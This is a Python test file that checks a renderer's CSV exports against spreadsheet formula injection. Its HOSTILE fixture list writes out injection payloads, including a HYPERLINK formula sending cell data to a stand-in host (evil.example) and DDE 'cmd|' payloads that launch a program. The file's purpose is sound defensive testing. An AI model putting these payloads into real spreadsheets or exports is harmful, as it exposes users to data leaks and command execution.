"""CSV formula injection: every CSV a spreadsheet user opens (figure cards, claims.csv) is
neutralised by OWASP's rule, JSON keeps the raw values, and a card still re-plots its chart."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from renderer.build import _write_ledger
from renderer.cards import read_card_csv, replot_spec, write_figure_card
from renderer.spreadsheet import TRIGGERS, is_plain_number, neutralise, restore

# What an attacker (or a careless import) puts in a text field, with what the CSV must hold:
# written by hand from OWASP's rule, not by calling the function under test.
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?x="&A1;"Colombia")',
     '\'=HYPERLINK("http://evil.example/?x="&A1;"Colombia")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("-inf", "'-inf"),
    ("--1", "'--1"),
    ("'=1+1", "''=1+1"),          # an already quoted formula: one more quote, so it reads back
    ("''@x", "'''@x"),
]
HARMLESS = ["Colombia", "Peru", "", "'quoted'", " =1+1", "a=b", "1-2", "2013", "PER;COL",
            "-1.7", "+3", "-2e-05", "-.5", "6.", "Côte d'Ivoire", "x\n=1"]


@pytest.mark.parametrize("raw, written", HOSTILE)
def test_hostile_cells_are_prefixed_with_a_quote(raw, written):
    assert neutralise(raw) == written
    assert restore(written) == raw


@pytest.mark.parametrize("raw", HARMLESS)
def test_harmless_cells_and_plain_numbers_are_left_alone(raw):
    assert neutralise(raw) == raw
    assert restore(raw) == raw


@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r'0123456789.eE ab;,\"\n")) | st.characters(),
               max_size=30))
@settings(max_examples=400, deadline=None)
def test_a_neutralised_cell_never_starts_a_formula_and_reads_back(raw):
    cell = neutralise(raw)
    assert not cell.startswith(TRIGGERS) or is_plain_number(cell)
    assert restore(cell) == raw
    if is_plain_number(raw):
        assert cell == raw and float(cell) == float(raw)  # a number stays that number


# --- the figure card --------------------------------------------------------------------------

def hostile_chart(names: list[str]) -> dict:
    """A bar chart of countries with hostile names, and negative numbers that must stay numbers."""
    values = [{"country": name, "change": -1.7 - i, "year": 2000 + i} for i, name in enumerate(names)]
    return {"data": {"values": values}, "mark": "bar",
            "encoding": {"x": {"field": "country", "type": "nominal"},
                         "y": {"field": "change", "type": "quantitative"}}}


def write_card(folder, spec):
    return write_figure_card(folder, "fig-x", spec, "Change by country", "Bars: change by country.",
                             ["src"], "Cite fig-x", {"version": "1"})


def test_card_csv_neutralises_hostile_names_and_keeps_numbers(tmp_path):
    names = [raw for raw, _ in HOSTILE]
    spec = hostile_chart(names)
    card = write_card(tmp_path, spec)
    for data in ((card / "fig-x.csv").read_bytes(),
                 zipfile.ZipFile(tmp_path / "fig-x.zip").read("fig-x/fig-x.csv")):
        rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
        assert rows[0] == ["country", "change", "year"]
        assert [r[0] for r in rows[1:]] == [written for _, written in HOSTILE]
        assert [r[1] for r in rows[1:]] == [repr(-1.7 - i) for i in range(len(names))]
        assert all(r[1].startswith("-") for r in rows[1:])  # negative numbers, not '-1.7
    meta = json.loads((card / "metadata.json").read_text(encoding="utf-8"))
    assert "OWASP" in meta["data"]["csv_cells"] and "-1.7" in meta["data"]["csv_cells"]
    assert replot_spec(spec, read_card_csv(card / "fig-x.csv")) == spec  # raw names come back


def test_card_header_is_neutralised_too(tmp_path):
    spec = {"data": {"values": [{"=1+1": "a", "b": 1}]}, "mark": "point"}
    card = write_card(tmp_path, spec)
    assert (card / "fig-x.csv").read_text(encoding="utf-8").splitlines()[0] == "'=1+1,b"
    assert replot_spec(spec, read_card_csv(card / "fig-x.csv")) == spec


# Text a chart can hold: control characters other than tab, CR and LF (and non-characters)
# crash vl-convert and are refused by the data check before any card is made (issue 15, item 3).
CHART_TEXT = st.text(st.characters(blacklist_categories=("Cc", "Cs", "Co", "Cn"))
                     | st.sampled_from(list("\t\r\n=+-@'")), min_size=1, max_size=12)


@given(st.lists(CHART_TEXT, min_size=1, max_size=5))
@settings(max_examples=10, deadline=None)  # each example draws a PNG and an SVG
def test_any_text_reads_back_from_a_card(tmp_path_factory, names):
    folder = tmp_path_factory.mktemp("card")
    spec = hostile_chart(names)
    card = write_card(folder, spec)
    with (card / "fig-x.csv").open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert all(not c.startswith(TRIGGERS) or is_plain_number(c) for c in cells)
    assert replot_spec(spec, read_card_csv(card / "fig-x.csv")) == spec


# --- the claims ledger ------------------------------------------------------------------------

def claim(i: int, text: str, value) -> dict:
    return {"id": f"c{i}", "kind": "number", "text": text, "value": value, "low": None,
            "high": None, "unit": "%", "sources": ["@src", "b"], "sentence": f"Said {text}.",
            "chapter": "ch", "anchor": f"ch.html#claim-c{i}", "edition_date": "2025-11-28"}


def test_claims_csv_is_neutralised_and_claims_json_keeps_raw_values(tmp_path):
    claims = [claim(i, raw, -1.7 * (i + 1)) for i, (raw, _) in enumerate(HOSTILE)]
    _write_ledger(tmp_path, claims)
    assert json.loads((tmp_path / "claims.json").read_text(encoding="utf-8")) == claims
    with (tmp_path / "claims.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["text"] for r in rows] == [written for _, written in HOSTILE]
    assert [r["value"] for r in rows] == [str(-1.7 * (i + 1)) for i in range(len(HOSTILE))]
    assert [r["sources"] for r in rows] == ["'@src;b"] * len(HOSTILE)
    assert [r["sentence"] for r in rows] == [f"Said {raw}." for raw, _ in HOSTILE]
    assert rows[0]["edition_date"] == "2025-11-28"


@given(st.text(max_size=20))
@settings(max_examples=60, deadline=None)
def test_no_claims_csv_cell_starts_a_formula(tmp_path_factory, text):
    folder = tmp_path_factory.mktemp("ledger")
    _write_ledger(folder, [claim(0, text, -3)])
    with (folder / "claims.csv").open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert all(not c.startswith(TRIGGERS) or is_plain_number(c) for c in cells)
    assert json.loads((folder / "claims.json").read_text(encoding="utf-8"))[0]["text"] == text
